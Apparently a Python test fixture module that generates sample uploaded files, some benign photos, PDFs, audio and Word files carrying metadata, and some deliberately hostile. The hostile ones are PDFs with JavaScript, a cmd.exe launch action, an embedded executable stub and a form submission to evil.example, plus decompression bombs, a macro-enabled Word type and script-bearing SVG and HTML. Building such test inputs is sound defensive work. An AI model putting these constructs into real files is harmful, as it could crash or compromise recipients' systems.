"""Files as people send them, and as somebody sends them who means harm."""

import struct
import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pikepdf
from PIL import Image, PngImagePlugin

CAMERA = "Markercam 3000"
SAID_IN_IT = "markerxmp by Quenby Markerley"
ARTIST = 0x013B
GPS = 0x8825
BOMB_SIDE = 14_000  # dots


def picture(size=(320, 200)):
    image = Image.new("RGB", size, "white")
    image.paste("red", (10, 10, size[0] // 2, size[1] // 2))
    return image


def saved(image, form, **options):
    written = BytesIO()
    image.save(written, form, **options)
    return written.getvalue()


def jpeg(size=(320, 200), **options):
    return saved(picture(size), "JPEG", **options)


def png(size=(320, 200), **options):
    return saved(picture(size), "PNG", **options)


def photo(*, orientation=1):
    """A photo that says where and with what it was taken, and by whom."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x0110] = CAMERA
    exif[ARTIST] = "Quenby Markerley"
    gps = exif.get_ifd(GPS)
    gps[1], gps[2] = "N", (52.0, 23.0, 53.16)
    gps[3], gps[4] = "E", (0.0, 15.0, 44.64)
    xmp = f"<x:xmpmeta xmlns:x='adobe:ns:meta/'>{SAID_IN_IT}</x:xmpmeta>".encode()
    return jpeg(exif=exif, xmp=xmp, comment=SAID_IN_IT.encode())


def png_that_says():
    told = PngImagePlugin.PngInfo()
    told.add_text("Author", SAID_IN_IT)
    told.add_itxt("XML:com.adobe.xmp", SAID_IN_IT)
    return png(pnginfo=told)


def pdf(pages=1, change=lambda opened: None, **options):
    """A PDF of some pages; *change* does to it what is to be wrong with it."""
    written = BytesIO()
    with pikepdf.new() as opened:
        for _ in range(pages):
            opened.add_blank_page(page_size=(595, 842))
        page = opened.pages[0]
        words = b"BT /F1 24 Tf 72 700 Td (A markerword on paper) Tj ET"
        page.Contents = opened.make_stream(words)
        font = pikepdf.Dictionary(
            Type=pikepdf.Name.Font,
            Subtype=pikepdf.Name.Type1,
            BaseFont=pikepdf.Name.Helvetica,
        )
        fonts = pikepdf.Dictionary(F1=opened.make_indirect(font))
        page.Resources = pikepdf.Dictionary(Font=fonts)
        opened.docinfo["/Author"] = "Quenby Markerley"
        change(opened)
        opened.save(written, **options)
    return written.getvalue()


def with_script(opened):
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    opened.Root.OpenAction = opened.make_indirect(action)


def with_launch(opened):
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
    annotation = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 99, 99],
        A=action,
    )
    opened.pages[0].Annots = pikepdf.Array([annotation])


def with_file(opened):
    opened.attachments["inside.exe"] = b"MZ inside"


def with_named_script(opened):
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    tree = pikepdf.Dictionary(Names=["all", opened.make_indirect(action)])
    opened.Root.Names = pikepdf.Dictionary(JavaScript=tree)


def with_page_action(opened):
    action = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example")
    opened.pages[0].AA = pikepdf.Dictionary(O=action)


def with_xfa(opened):
    opened.Root.AcroForm = pikepdf.Dictionary(XFA="<xdp/>", Fields=[])


def with_great_page(opened):
    opened.pages[0].MediaBox = [0, 0, 14_400, 14_400]


def zipped(**files):
    written = BytesIO()
    with ZipFile(written, "w", ZIP_DEFLATED) as packed:
        for name, content in files.items():
            packed.writestr(name, content)
    return written.getvalue()


KINDS = '<Types><Override PartName="/word/document.xml" ContentType="{}"/></Types>'
DOCUMENT = (
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
)
WITH_MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"


def word(kind=DOCUMENT, **more):
    parts = {
        "[Content_Types].xml": KINDS.format(kind),
        "word/document.xml": "<w:document>The noise began at two.</w:document>",
    }
    return zipped(**parts, **more)


def word_bomb():
    """Some kilobytes that become 200 megabytes of nothing."""
    return word(**{"word/media/a.bin": bytes(210_000_000)})


def chunk(name, content):
    crc = zlib.crc32(name + content)
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", crc)


def png_bomb(width=60_000, height=60_000):
    """Some kilobytes that become gigabytes of dots."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    packed = zlib.compress(bytes(1_000_000), 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", packed)
        + chunk(b"IEND", b"")
    )


def png_text_bomb():
    packed = b"Comment\0\0" + zlib.compress(bytes(80_000_000), 9)
    clear = png()
    return clear[:33] + chunk(b"zTXt", packed) * 20 + clear[33:]


def pdf_bomb(opened):
    """A page whose picture is packed hundreds of times smaller than it is."""
    image = pikepdf.Stream(opened, b"")
    image.Type, image.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
    image.Width = image.Height = BOMB_SIDE
    image.ColorSpace, image.BitsPerComponent = pikepdf.Name.DeviceGray, 8
    packed = zlib.compress(bytes(BOMB_SIDE**2), 1)
    image.write(packed, filter=pikepdf.Name.FlateDecode)
    page = opened.pages[0]
    page.Resources.XObject = pikepdf.Dictionary(Im0=image)
    page.Contents = opened.make_stream(b"595 0 0 842 0 0 cm /Im0 Do")


def wav(seconds=1):
    content = bytes(8_000 * seconds)
    form = b"fmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8_000, 8_000, 1, 8)
    body = b"WAVE" + form + b"data" + struct.pack("<I", len(content)) + content
    return b"RIFF" + struct.pack("<I", len(body)) + body


def boxed(brand, rest=b"\0\0\0\x08mdat"):
    return b"\0\0\0\x18ftyp" + brand + b"\0\0\2\0" + brand + b"isom" + rest


MP3 = b"ID3\4\0\0\0\0\0\0" + (b"\xff\xfb\x90\x64" + bytes(413)) * 5
BARE_MP3 = (b"\xff\xfb\x90\x64" + bytes(413)) * 5
M4A, MP4, MOV = boxed(b"M4A "), boxed(b"isom"), boxed(b"qt  ")
TEXT = "Monday, 2am: the music again. “Loud”, she said.\r\n".encode()
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
